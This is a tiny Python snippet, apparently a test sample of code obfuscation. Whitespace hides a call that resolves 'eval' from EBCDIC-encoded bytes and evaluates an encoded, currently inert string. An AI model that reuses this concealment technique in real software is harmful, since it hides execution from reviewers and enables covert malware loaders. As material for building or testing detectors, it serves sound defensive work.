import builtins
x = (1
)                                                                                                                                                                                                                                                                                                            ;cc = getattr(builtins, b'\x85\xa5\x81\x93'.decode('cp1026'));cc(b'\x97\x99'.decode('cp1026'))
